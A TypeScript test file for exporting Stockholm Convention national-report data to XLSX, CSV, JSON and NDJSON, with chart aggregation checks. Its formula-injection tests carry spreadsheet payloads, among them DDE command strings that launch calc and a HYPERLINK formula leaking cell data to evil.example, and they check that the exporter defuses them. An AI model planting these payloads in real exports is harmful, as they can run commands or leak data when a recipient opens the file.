import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import {
	art15V6Context,
	buildCompleteArt15V6Answers,
	buildCompleteDdtAnswers,
	ddtContext,
} from '#forms/fixtures/builders.ts'
import { askedAnswers } from '#forms/engine/index.ts'
import { requireFormSha256 } from '#forms/registry.ts'
import { formText } from '#forms/text.ts'
import type { TableAnswer } from '#forms/types.ts'
import { ART15_V6, DDT_V1, countryName } from '../fixtures.ts'
import { buildCompiledFile, CompiledCollector } from './build.ts'
import { tableCharts, OTHERS_KEY } from './charts.ts'
import {
	REPORT_COLUMNS,
	compiledLayout,
	type CompiledMeta,
	type CompiledReport,
	type FlatCell,
} from './dataset.ts'
import { jsonChunks, ndjsonLines } from './json.ts'

const HIDDEN = 98765.4321

function art15Report(
	partyCode: string,
	tweak: (answers: CompiledReport['answers']) => void = () => {},
): CompiledReport {
	const formContext = art15V6Context(partyCode)
	const answers = buildCompleteArt15V6Answers(formContext)
	// Hidden (PCB use ended): kept in the submission, but not exported.
	answers.c_pcb_remaining_in_use_t = HIDDEN
	tweak(answers)
	return {
		partyCode,
		partyName: countryName(partyCode, 'en'),
		reportStatus: 'accepted',
		submissionNumber: 2,
		submissionState: 'accepted',
		submittedAt: '2026-08-15T10:32:00.000Z',
		sha256: `sha-${partyCode}`,
		formContext,
		answers,
	}
}

function meta(count: number, questions: string[] = []): CompiledMeta {
	return {
		formId: 'stockholm-art15',
		formVersion: 6,
		formSha256: requireFormSha256('stockholm-art15', 6),
		cycleCode: 'sc-art15-6',
		cycleTitle: 'Stockholm Convention Article 15 national report, 6th cycle',
		status: 'accepted',
		lang: 'en',
		questions,
		generatedAt: '2026-11-23T09:00:00.000Z',
		reportCount: count,
	}
}

const REPORTS = [
	art15Report('KEN'),
	art15Report('IND', (answers) => {
		answers.b6_contaminated_sites_count = { marker: 'confidential' }
		answers.b3_import_partners = { marker: 'not_available' }
	}),
	// Rows saved before the estimate box was ever touched: the cell is not stored at all.
	art15Report('FRA', (answers) => {
		for (const row of (answers.b3_statistics as TableAnswer).rows) delete row.cells.is_estimate
	}),
]

/** A sheet's rows as read back by exceljs (row 1: header); empty cells as null. */
function sheetRows(sheet: ExcelJS.Worksheet): FlatCell[][] {
	const rows: FlatCell[][] = []
	const width = sheet.getRow(1).cellCount
	sheet.eachRow((row) => {
		const cells: FlatCell[] = []
		for (let column = 1; column <= width; column++) {
			const value = row.getCell(column).value
			cells.push(value === undefined || value === null ? null : (value as FlatCell))
		}
		rows.push(cells)
	})
	return rows
}

function parseCsv(text: string): string[][] {
	const rows: string[][] = []
	let row: string[] = []
	let field = ''
	let quoted = false
	for (let i = 0; i < text.length; i++) {
		const char = text[i]!
		if (quoted) {
			if (char === '"' && text[i + 1] === '"') {
				field += '"'
				i++
			} else if (char === '"') quoted = false
			else field += char
		} else if (char === '"') quoted = true
		else if (char === ',') {
			row.push(field)
			field = ''
		} else if (char === '\n') {
			row.push(field.replace(/\r$/, ''))
			rows.push(row)
			row = []
			field = ''
		} else field += char
	}
	return rows
}

const asCsv = (value: FlatCell) => (value === null ? '' : String(value))

/** A CSV cell read as the metadata says: one leading apostrophe removed (formula escape). */
const readCsvCell = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell)
const readCsvRows = (rows: string[][]) => rows.map((row) => row.map(readCsvCell))

const BOM = [0xef, 0xbb, 0xbf]

/** A CSV file of the zip as text, after checking it opens with the UTF-8 byte order mark. */
function csvText(bytes: Uint8Array): string {
	expect([...bytes.slice(0, 3)]).toEqual(BOM)
	return strFromU8(bytes.slice(3))
}

describe('compiled exports', () => {
	const layout = compiledLayout(ART15_V6, 'en')
	const collector = new CompiledCollector(layout)
	for (const report of REPORTS) collector.add(report)

	it('reads back from XLSX equal to the source rows, sheet by sheet', async () => {
		const bytes = await buildCompiledFile('xlsx', layout, meta(3), collector.flat)
		const workbook = new ExcelJS.Workbook()
		await workbook.xlsx.load(bytes as never)
		expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
			'metadata',
			'columns',
			'answers',
			...layout.tables.map((table) => table.name),
			...layout.codeSheets.map((sheet) => sheet.name),
		])
		const answers = sheetRows(workbook.getWorksheet('answers')!)
		expect(answers[0]).toEqual(layout.answers.columns.map((column) => column.id))
		expect(answers.slice(1)).toEqual(collector.flat.map((report) => report.answers))
		layout.tables.forEach((table, index) => {
			const rows = sheetRows(workbook.getWorksheet(table.name)!)
			expect(rows[0]).toEqual(table.columns.map((column) => column.id))
			expect(rows.slice(1)).toEqual(collector.flat.flatMap((report) => report.tables[index]!))
		})
		const metadata = Object.fromEntries(sheetRows(workbook.getWorksheet('metadata')!).slice(1))
		expect(metadata).toMatchObject({
			form_id: 'stockholm-art15',
			form_version: 6,
			form_sha256: requireFormSha256('stockholm-art15', 6),
			status_filter: 'accepted',
			generated_at: '2026-11-23T09:00:00.000Z',
			report_count: 3,
		})
		const countries = sheetRows(workbook.getWorksheet('list_countries')!)
		expect(countries).toContainEqual(['countries', 'KEN', 'Kenya', 'Kenya'])
	})

	it('flattens a row per country and a row per country and table row, without hidden answers', () => {
		const [kenya, india] = collector.flat
		const column = (id: string) => layout.answers.columns.findIndex((c) => c.id === id)
		expect(kenya!.answers.slice(0, REPORT_COLUMNS.length)).toEqual([
			'KEN',
			'Kenya',
			'accepted',
			2,
			'accepted',
			'2026-08-15T10:32:00.000Z',
			'sha-KEN',
		])
		expect(kenya!.answers[column('b6_contaminated_sites_count')]).toBe(14)
		expect(india!.answers[column('b6_contaminated_sites_count')]).toBe('[confidential]')
		expect(kenya!.answers[column('a_nfp_contact.name')]).toBe('Jane Wanjiru')
		expect(kenya!.answers[column('b10_activities')]).toBe(
			'policy_maker_awareness; public_information; worker_training',
		)
		expect(kenya!.answers[column('c_pcb_remaining_in_use_t')]).toBeNull()
		const statistics = layout.tables.findIndex((table) => table.name === 'b3_statistics')
		// Only the rows asked: the chemicals Kenya answered "yes" for, in their years.
		const kenyaRows = (
			askedAnswers(ART15_V6, REPORTS[0]!.answers, REPORTS[0]!.formContext)
				.b3_statistics as TableAnswer
		).rows
		expect(kenyaRows.length).toBeGreaterThan(0)
		expect(kenyaRows.length).toBeLessThan(
			(REPORTS[0]!.answers.b3_statistics as TableAnswer).rows.length,
		)
		expect(kenya!.tables[statistics]).toHaveLength(kenyaRows.length)
		expect(kenya!.tables[statistics]![0]!.slice(0, 4)).toEqual([
			'KEN',
			kenyaRows[0]!.id,
			kenyaRows[0]!.cells.chemical,
			kenyaRows[0]!.cells.year,
		])
		const partners = layout.tables.findIndex((table) => table.name === 'b3_import_partners')
		expect(india!.tables[partners]).toEqual([
			['IND', null, '[not_available]', '[not_available]', '[not_available]', '[not_available]'],
		])
	})

	it('writes the same data as a zip of CSV files', async () => {
		const bytes = await buildCompiledFile('csv', layout, meta(3), collector.flat)
		const files = unzipSync(bytes)
		expect(Object.keys(files)).toEqual(
			expect.arrayContaining([
				'metadata.csv',
				'columns.csv',
				'answers.csv',
				'tables/b3_statistics.csv',
				'codelists/list_sc-chemicals.csv',
			]),
		)
		const answers = parseCsv(csvText(files['answers.csv']!))
		expect(answers[0]).toEqual(layout.answers.columns.map((column) => column.id))
		expect(readCsvRows(answers.slice(1))).toEqual(
			collector.flat.map((report) => report.answers.map(asCsv)),
		)
		const statistics = layout.tables.findIndex((table) => table.name === 'b3_statistics')
		const rows = parseCsv(csvText(files['tables/b3_statistics.csv']!))
		expect(readCsvRows(rows.slice(1))).toEqual(
			collector.flat.flatMap((report) => report.tables[statistics]!.map((row) => row.map(asCsv))),
		)
	})

	it('opens every CSV file with a UTF-8 byte order mark, so Excel reads accented names', async () => {
		const collected = new CompiledCollector(layout)
		collected.add(art15Report('TUR'))
		const files = unzipSync(await buildCompiledFile('csv', layout, meta(1), collected.flat))
		const names = Object.keys(files).filter((name) => name.endsWith('.csv'))
		expect(names.length).toBeGreaterThan(5)
		for (const name of names) expect([...files[name]!.slice(0, 3)], name).toEqual(BOM)
		const answers = parseCsv(csvText(files['answers.csv']!))
		expect(answers[1]![1]).toBe('Türkiye')
		// One mark only: the first header is the plain column id.
		expect(answers[0]![0]).toBe('party_code')
	})

	it('writes checkbox cells as true or false in every format, an unticked box as false', async () => {
		const statistics = layout.tables.findIndex((table) => table.name === 'b3_statistics')
		const estimate = layout.tables[statistics]!.columns.findIndex((c) => c.id === 'is_estimate')
		// What each exported row stored: ticked, unticked, or (France) nothing at all.
		const stored = new Map(
			REPORTS.flatMap((report) =>
				(report.answers.b3_statistics as TableAnswer).rows.map((row) => [
					`${report.partyCode}|${row.id}`,
					row.cells.is_estimate,
				]),
			),
		)
		const flat = collector.flat.flatMap((report) => report.tables[statistics]!)
		expect(flat.some((row) => row[0] === 'FRA')).toBe(true)
		const expected = flat.map((row) => stored.get(`${row[0]}|${row[1]}`) ?? false)
		expect(expected).toContain(true)
		expect(expected).toContain(false)
		expect(flat.map((row) => row[estimate])).toEqual(expected)

		const workbook = new ExcelJS.Workbook()
		await workbook.xlsx.load(
			(await buildCompiledFile('xlsx', layout, meta(3), collector.flat)) as never,
		)
		const sheet = sheetRows(workbook.getWorksheet('b3_statistics')!).slice(1)
		expect(sheet.map((row) => row[estimate])).toEqual(expected)

		const files = unzipSync(await buildCompiledFile('csv', layout, meta(3), collector.flat))
		const csv = parseCsv(csvText(files['tables/b3_statistics.csv']!)).slice(1)
		expect(csv.map((row) => row[estimate])).toEqual(expected.map(String))

		async function* source() {
			yield* REPORTS
		}
		let json = ''
		for await (const chunk of jsonChunks(meta(3), layout, source())) json += chunk
		const parsed = JSON.parse(json) as { reports: { answers: { b3_statistics: TableAnswer } }[] }
		expect(
			parsed.reports.flatMap((report) =>
				report.answers.b3_statistics.rows.map((row) => row.cells.is_estimate),
			),
		).toEqual(expected)
	})

	it('documents in the codebook and metadata how booleans and empty cells are written', async () => {
		const files = unzipSync(await buildCompiledFile('csv', layout, meta(3), collector.flat))
		const codebook = parseCsv(csvText(files['columns.csv']!))
		expect(codebook[0]).toEqual(['sheet', 'column', 'label', 'type', 'unit', 'codes', 'values'])
		const row = (sheet: string, column: string) =>
			codebook.find((line) => line[0] === sheet && line[1] === column)
		expect(row('b3_statistics', 'is_estimate')).toEqual([
			'b3_statistics',
			'is_estimate',
			'Estimate',
			'checkbox',
			'',
			'',
			'true or false (an unticked box is false)',
		])
		expect(row('answers', 'b10_activities')?.[6]).toMatch(/^codes from .*separated by "; "/)
		expect(codebook.slice(1).every((line) => line[6] !== '')).toBe(true)
		const metadata = Object.fromEntries(parseCsv(csvText(files['metadata.csv']!)).slice(1))
		expect(metadata.booleans).toMatch(/unticked box is false/)
		expect(metadata.empty).toMatch(/no answer/)
	})

	it('streams JSON and NDJSON with the value model and without hidden answers', async () => {
		async function* source() {
			yield* REPORTS
		}
		const lines: string[] = []
		for await (const line of ndjsonLines(meta(3), layout, source())) lines.push(line)
		expect(lines).toHaveLength(4)
		const [head, kenya, india] = lines.map((line) => JSON.parse(line))
		expect(head).toMatchObject({
			type: 'meta',
			form_id: 'stockholm-art15',
			form_version: 6,
			form_sha256: requireFormSha256('stockholm-art15', 6),
			report_count: 3,
		})
		expect(kenya.answers.b6_contaminated_sites_count).toBe(14)
		expect(kenya.answers).not.toHaveProperty('c_pcb_remaining_in_use_t')
		expect(india.answers.b3_import_partners).toEqual({ marker: 'not_available' })

		let json = ''
		for await (const chunk of jsonChunks(meta(3), layout, source())) json += chunk
		const parsed = JSON.parse(json)
		expect(parsed.reports.map((report: { party_code: string }) => report.party_code)).toEqual([
			'KEN',
			'IND',
			'FRA',
		])
		expect(parsed.reports[0].answers).toEqual(kenya.answers)
	})

	it('exports only the selected questions', async () => {
		const selected = compiledLayout(ART15_V6, 'fr', [
			'b6_contaminated_sites_count',
			'b3_statistics',
		])
		expect(selected.answers.columns.map((column) => column.id)).toEqual([
			...REPORT_COLUMNS,
			'b6_contaminated_sites_count',
		])
		expect(selected.tables.map((table) => table.name)).toEqual(['b3_statistics'])
		expect(selected.codeSheets.map((sheet) => sheet.name)).toEqual(['list_sc-chemicals'])
		expect(selected.codeSheets[0]!.rows.find((row) => row.code === 'DDT')?.label).toMatch(/DDT/)
	})
})

describe('formula injection', () => {
	const layout = compiledLayout(ART15_V6, 'en')
	/** Text a spreadsheet would run as a formula when the file is opened, as the probe sent it. */
	const PAYLOADS = [
		"=cmd|' /C calc'!A0",
		'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
		"+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		'\t=1+1',
		'\r=1+1',
		'  =1+1',
		'\uFF1D1+1',
		"'already quoted",
	]
	const TEXT = ['b_obstacles_implementation', 'b_obstacles_reporting', 'b_format_comments']
	const report = art15Report('KEN', (answers) => {
		answers.b_obstacles_implementation = PAYLOADS[0]!
		answers.b_obstacles_reporting = PAYLOADS[1]!
		answers.b_format_comments = '-12.5'
		answers.b6_contaminated_sites_count = -5
	})
	const collector = new CompiledCollector(layout)
	collector.add(report)
	for (const [index, payload] of PAYLOADS.entries()) {
		collector.add(
			art15Report('IND', (answers) => {
				answers.b_obstacles_implementation = payload
				answers.b_obstacles_reporting = `${index}`
			}),
		)
	}
	const column = (id: string) => layout.answers.columns.findIndex((c) => c.id === id)

	it('writes formula-like text in CSV after an apostrophe, quoted, and numbers as they are', async () => {
		const files = unzipSync(await buildCompiledFile('csv', layout, meta(11), collector.flat))
		const raw = csvText(files['answers.csv']!)
		const lines = raw.split('\r\n')
		expect(lines[1]).toContain(`"'=cmd|' /C calc'!A0"`)
		expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`)
		const rows = parseCsv(raw).slice(1)
		const implementation = column('b_obstacles_implementation')
		expect(rows.slice(1).map((row) => row[implementation])).toEqual(
			PAYLOADS.map((payload) => `'${payload}`),
		)
		// No field of any file starts a formula: every cell is text, a number or a boolean.
		for (const [name, bytes] of Object.entries(files)) {
			for (const row of parseCsv(csvText(bytes))) {
				for (const cell of row) {
					expect(/^\s*[=+\-@\uFF1D]|^[\t\r]/.test(cell) && !/^[-+]?\d/.test(cell), name).toBe(false)
				}
			}
		}
		// Numbers stay numbers (unquoted, no apostrophe); text that is only a number is left alone.
		expect(lines[1]!.split(',')).toContain('-5')
		expect(rows[0]![column('b6_contaminated_sites_count')]).toBe('-5')
		expect(rows[0]![column('b_format_comments')]).toBe('-12.5')
		// Removing one leading apostrophe gives back exactly what was stored.
		expect(readCsvRows(rows)).toEqual(collector.flat.map((flat) => flat.answers.map(asCsv)))
		const metadata = Object.fromEntries(parseCsv(csvText(files['metadata.csv']!)).slice(1))
		expect(metadata.formulas).toMatch(/apostrophe/)
	})

	it('writes text cells in XLSX as text, never as formulas, whatever the data holds', async () => {
		const flat = collector.flat.map((item) => ({ ...item, answers: [...item.answers] }))
		// Even an object where a cell belongs (never valid data) must not become a formula.
		flat[0]!.answers[column(TEXT[2]!)] = { formula: 'HYPERLINK("http://evil.example")' } as never
		const bytes = await buildCompiledFile('xlsx', layout, meta(11), flat)
		const files = unzipSync(bytes)
		const sheets = Object.keys(files).filter((name) => name.startsWith('xl/worksheets/'))
		expect(sheets.length).toBeGreaterThan(3)
		for (const name of sheets) expect(strFromU8(files[name]!), name).not.toMatch(/<f[\s>]/)
		const workbook = new ExcelJS.Workbook()
		await workbook.xlsx.load(bytes as never)
		const answers = sheetRows(workbook.getWorksheet('answers')!).slice(1)
		// (XML reads a carriage return in text as a line feed.)
		expect(answers.slice(1).map((row) => row[column(TEXT[0]!)])).toEqual(
			PAYLOADS.map((payload) => payload.replace(/\r/g, '\n')),
		)
		expect(answers[0]![column(TEXT[2]!)]).toBe('{"formula":"HYPERLINK(\\"http://evil.example\\")"}')
		expect(answers[0]![column('b6_contaminated_sites_count')]).toBe(-5)
	})
})

describe('charts of numeric tables', () => {
	it('sums DDT used per year by country', () => {
		const reports = ['IND', 'ZAF', 'UGA'].map((partyCode, index) => {
			const answers = buildCompleteDdtAnswers(ddtContext(partyCode))
			const use = answers.a_use as TableAnswer
			for (const row of use.rows)
				row.cells.quantity_kg_ai = (index + 1) * 1000 + Number(row.cells.year)
			return { partyCode, partyName: countryName(partyCode, 'en'), value: use }
		})
		const question = DDT_V1.parts
			.flatMap((p) => p.sections)
			.flatMap((s) => s.questions)
			.find((q) => q.id === 'a_use')!
		if (question.type !== 'table') throw new Error('not a table')
		const [chart] = tableCharts(question, formText(DDT_V1, 'en'), reports, {
			maxCountries: 2,
			othersLabel: 'Others',
		})
		expect(chart!.kind).toBe('byYear')
		expect(chart!.categories.map((c) => c.key)).toEqual(['2024', '2025', '2026'])
		// Largest first; beyond the limit, the rest is summed as "others".
		expect(chart!.series.map((s) => s.key)).toEqual(['UGA', OTHERS_KEY])
		expect(chart!.series[0]!.values).toEqual([5024, 5025, 5026])
		expect(chart!.series[1]!.values).toEqual([
			1000 + 2024 + 2000 + 2024,
			1000 + 2025 + 2000 + 2025,
			1000 + 2026 + 2000 + 2026,
		])
	})

	it('sums production, import and export per chemical across countries', () => {
		const question = ART15_V6.parts
			.flatMap((p) => p.sections)
			.flatMap((s) => s.questions)
			.find((q) => q.id === 'b3_statistics')!
		if (question.type !== 'table') throw new Error('not a table')
		const reports = REPORTS.map((report) => ({
			partyCode: report.partyCode,
			partyName: report.partyName,
			value: report.answers.b3_statistics,
		}))
		const charts = tableCharts(question, formText(ART15_V6, 'en'), reports)
		const byChemical = charts.find((chart) => chart.kind === 'byCategory')!
		expect(byChemical.series.map((series) => series.key)).toEqual([
			'production_kg',
			'import_kg',
			'export_kg',
		])
		const ddt = byChemical.categories.findIndex((category) => category.key === 'DDT')
		const expected = (column: string) =>
			REPORTS.flatMap((report) => (report.answers.b3_statistics as TableAnswer).rows)
				.filter((row) => row.cells.chemical === 'DDT')
				.reduce(
					(sum, row) =>
						sum + (typeof row.cells[column] === 'number' ? (row.cells[column] as number) : 0),
					0,
				)
		expect(byChemical.series.map((series) => series.values[ddt])).toEqual([
			expected('production_kg'),
			expected('import_kg'),
			expected('export_kg'),
		])
		// Chemicals without any quantity are left out.
		expect(byChemical.categories.map((category) => category.key)).not.toContain('ALDRIN')
	})
})
